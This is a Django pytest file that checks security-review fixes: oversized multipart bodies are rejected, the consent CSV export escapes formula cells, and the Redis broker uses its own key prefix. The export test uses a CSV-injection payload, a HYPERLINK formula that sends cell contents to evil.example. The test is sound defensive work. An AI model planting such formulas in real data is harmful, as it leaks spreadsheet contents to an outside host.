"""The review's smaller findings: a multipart body past MAX_REQUEST_BYTES is refused before it is read, and
an end user's text that a spreadsheet would run as a formula lands in the consent CSV as text."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from rest_framework.test import APIClient

from commhub.enduser import mint_user_token
from tests.conftest import _client_for

pytestmark = pytest.mark.django_db


def test_a_multipart_body_over_the_limit_is_a_413_before_it_is_read(client, settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 1024 * 1024
    big = io.BytesIO(b"x" * (3 * 1024 * 1024))
    big.name = "payload.bin"
    response = client.post("/api/token/", {"username": "a", "password": "b", "file": big})
    assert response.status_code == 413 and response.json()["code"] == "too_large"
    admin = client.post("/admin/login/", {"username": "a", "password": "b", "file": io.BytesIO(b"y" * 2_000_000)})
    assert admin.status_code == 413
    small = client.post("/api/token/", {"username": "a", "password": "b"})
    assert small.status_code == 401  # under the limit: read as before


def test_formula_cells_in_the_consent_export_stay_text(catalogue, recipient, settings):
    settings.USER_JWT = {**settings.USER_JWT, "SIGNING_KEY": "csv-end-user-key-" + "k" * 40}
    person = APIClient()
    person.credentials(HTTP_AUTHORIZATION=f"Bearer {mint_user_token('123')}")
    formula = '=HYPERLINK("https://evil.example/?d="&A1,"click")'
    given = person.post(
        "/api/v1/me/consents/",
        {"channel": "email", "purpose": "marketing", "action": "granted", "consent_text": formula},
        format="json",
    )
    assert given.status_code == 201, given.content
    staff = _client_for(get_user_model().objects.create_superuser("root", "root@example.com", "x" * 20))
    exported = staff.get("/api/v1/recipients/123/consent-ledger/?format=csv")
    assert exported.status_code == 200
    [row] = list(csv.DictReader(io.StringIO(exported.content.decode())))
    assert row["consent_text"] == "'" + formula  # shown as text by Excel, LibreOffice and Sheets
    as_json = staff.get("/api/v1/recipients/123/consent-ledger/").json()
    assert as_json[0]["consent_text"] == formula  # the ledger itself keeps what was given


@pytest.mark.skipif(
    not __import__("django.conf").conf.settings.CELERY_BROKER_URL.startswith("redis"), reason="Redis broker keys"
)
def test_commhubs_broker_keys_carry_their_own_prefix_on_a_shared_redis():
    """Seed 001 suggests one Redis database for everything, and seed 002's queues share commhub's names: with
    the key prefix, a wake-up on commhub's sms_critical lands apart from another app's sms_critical."""
    import redis
    from django.conf import settings

    from commhub.celery import app

    broker = redis.Redis.from_url(settings.CELERY_BROKER_URL)
    prefix = settings.CELERY_BROKER_TRANSPORT_OPTIONS["global_keyprefix"]
    assert prefix == "commhub:"
    broker.delete("sms_critical", prefix + "sms_critical")
    broker.rpush("sms_critical", b"another app's task")
    app.send_task("notifications.tasks.drain", kwargs={"queue": "sms_critical"}, queue="sms_critical")
    assert broker.llen(prefix + "sms_critical") == 1
    assert broker.lrange("sms_critical", 0, -1) == [b"another app's task"]
    broker.delete("sms_critical", prefix + "sms_critical")
